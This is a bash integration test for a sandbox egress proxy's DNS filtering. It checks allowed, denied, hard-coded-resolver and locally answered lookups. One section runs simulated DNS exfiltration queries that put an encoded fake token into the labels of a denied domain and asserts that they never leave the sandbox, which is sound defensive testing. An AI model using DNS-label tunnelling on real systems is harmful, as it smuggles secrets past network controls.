#!/bin/bash
# dns_filtering: the resolver's decisions as the sandbox sees them. Allowed
# names resolve through every client path (dig, glibc, python, egressd's
# own port over UDP/TCP/IPv6); denied names get NXDOMAIN with a
# synthesized SOA and never reach the upstream, not even as data hidden in
# labels; a hard-coded resolver IP is answered by egressd with the same
# policy; localhost and egressd's own reverse names are answered locally.
set -u -o pipefail
. "$(dirname "$0")/../lib/testbed.sh"
tb_setup

pol=$(tb_policy_file policy.yaml <<'EOF'
defaultAction: deny
egress:
  - {action: allow, target: a.test}
  - {action: allow, target: "*.a.test"}
dns:
  negativeTtl: 17
EOF
)
tb_start_egressd --policy "$pol"

dig_s() { tb_sandbox dig +short +time=2 +tries=1 "$@"; }

# --- allowed ---
tb_expect_eq "A through the sandbox's resolv.conf (redirected)" \
    "203.0.113.10" "$(dig_s a.test A)"
tb_expect_eq "AAAA too" "2001:db8:2::10" "$(dig_s a.test AAAA)"
tb_expect_match "glibc getent resolves a wildcard-allowed name" \
    "^(203\.0\.113\.10|2001:db8:2::10) +www\.a\.test" \
    "$(tb_sandbox getent hosts www.a.test)"
tb_expect_eq "python getaddrinfo" "203.0.113.10" \
    "$(tb_sandbox "$TB_PY" -c 'import socket
print(socket.getaddrinfo("deep.sub.a.test", 80, socket.AF_INET)[0][4][0])')"
tb_expect_eq "egressd's own port over TCP" "203.0.113.10" \
    "$(dig_s +tcp -p 15353 @127.0.0.1 a.test A)"
tb_expect_eq "egressd's own port on ::1" "2001:db8:2::10" \
    "$(dig_s -p 15353 @::1 a.test AAAA)"
tb_expect_match "0x20 case of the question comes back as sent" \
    "^wWw\.A\.tEsT\.[[:space:]]" \
    "$(tb_sandbox dig +noall +question +time=2 +tries=1 wWw.A.tEsT A |
    sed 's/^;//')"
tb_check "an allowed name connects at once (HTTPS)" \
    tb_sandbox curl -sS --max-time 5 -o /dev/null https://www.a.test/

# --- denied ---
out=$(tb_sandbox dig +time=2 +tries=1 b.test A)
tb_expect_match "denied name: NXDOMAIN" "status: NXDOMAIN" "$out"
tb_expect_match "with a synthesized SOA whose TTL is dns.negativeTtl" \
    "b\.test\.[[:space:]]+17[[:space:]]+IN[[:space:]]+SOA[[:space:]]+egressd\.invalid\." \
    "$out"
# RFC 8914: the answer says why, an Extended DNS Error 15 "Blocked" in the
# OPT record dig sends by default (EDNS); without EDNS the same NXDOMAIN
# and no OPT at all (RFC 6891).
tb_expect_match "dig shows why: EDE 15 (Blocked) with egressd's text" \
    "; EDE: 15 \(Blocked\): \(egressd: denied by policy\)" "$out"
out=$(tb_sandbox dig +noedns +time=2 +tries=1 b.test A)
tb_expect_match "+noedns: NXDOMAIN too" "status: NXDOMAIN" "$out"
if grep -Eq "OPT PSEUDOSECTION|EDE:" <<<"$out"; then
	tb_fail "+noedns: no OPT record, no EDE ($(grep -E 'OPT|EDE' <<<"$out"))"
else
	tb_pass "+noedns: no OPT record, no EDE"
fi
tb_expect_match "class CH: REFUSED, EDE 21 (Not Supported)" \
    "status: REFUSED.*; EDE: 21 \(Not Supported\): \(egressd: only class IN is served\)" \
    "$(tb_sandbox dig +time=2 +tries=1 CH TXT version.bind | tr '\n' ' ')"
tb_expect_match "denied over TCP too" "status: NXDOMAIN" \
    "$(tb_sandbox dig +tcp +time=2 +tries=1 www.b.test A)"
tb_expect_match "a name outside every rule: NXDOMAIN" "status: NXDOMAIN" \
    "$(tb_sandbox dig +time=2 +tries=1 c.test AAAA)"
tb_check_fails "glibc sees it as unknown" tb_sandbox getent hosts b.test

# Exfiltration: data in the labels of a denied name must not leave.
secret="c2VjcmV0LXRva2VuLTQy.chunk1.exfil.b.test"
tb_sandbox dig +time=2 +tries=1 "$secret" TXT >/dev/null
tb_sandbox dig +tcp +time=2 +tries=1 "$secret" A >/dev/null
tb_sandbox dig +time=2 +tries=1 -p 15353 @127.0.0.1 "x$secret" MX >/dev/null
tb_assert_no_dns_query dns1 '.*exfil\.b\.test'
tb_assert_no_dns_query dns1 '(www\.)?b\.test|c\.test'
tb_assert_dns_query dns1 'a\.test' # the same check does see queries
tb_assert_log "$TB_EGRESSD_LOG" dns.deny name=b.test reason=policy
tb_assert_log "$TB_EGRESSD_LOG" dns.deny "name~exfil\\.b\\.test$"

# --- hard-coded resolvers: an echo server listens on their port 53 ---
tb_expect_eq "hard-coded resolver IP over UDP: answered by egressd" \
    "203.0.113.10" "$(dig_s @"$TB_RESOLVER_X4" a.test A)"
tb_expect_match "with the same policy" "status: NXDOMAIN" \
    "$(tb_sandbox dig +time=2 +tries=1 @"$TB_RESOLVER_X4" b.test A)"
tb_expect_eq "hard-coded resolver over TCP" "203.0.113.10" \
    "$(dig_s +tcp @"$TB_RESOLVER_X4" a.test A)"
tb_expect_eq "hard-coded IPv6 resolver" "2001:db8:2::10" \
    "$(dig_s @"$TB_RESOLVER_X6" a.test AAAA)"
tb_expect_match "denied through the IPv6 resolver over TCP" \
    "status: NXDOMAIN" \
    "$(tb_sandbox dig +tcp +time=2 +tries=1 @"$TB_RESOLVER_X6" b.test A)"
tb_assert_no_log "$TB_ECHO_LOG" echo.udp "server.addr=$TB_RESOLVER_X4"
tb_assert_no_log "$TB_ECHO_LOG" echo.tcp.accept "server.addr=$TB_RESOLVER_X4"
tb_assert_no_log "$TB_ECHO_LOG" echo.udp "server.addr=$TB_RESOLVER_X6"
tb_assert_no_log "$TB_ECHO_LOG" echo.tcp.accept "server.addr=$TB_RESOLVER_X6"

# --- answered locally ---
tb_expect_eq "localhost" "127.0.0.1" "$(dig_s localhost A)"
tb_expect_eq "*.localhost, AAAA" "::1" "$(dig_s app.localhost AAAA)"
tb_expect_eq "egressd's own reverse name" "localhost." \
    "$(dig_s -x 127.0.0.1)"
tb_expect_match "other reverse names follow policy (denied here)" \
    "status: NXDOMAIN" "$(tb_sandbox dig +time=2 +tries=1 -x 203.0.113.10)"
tb_assert_no_dns_query dns1 '(.*\.)?localhost|.*in-addr\.arpa'
tb_finish
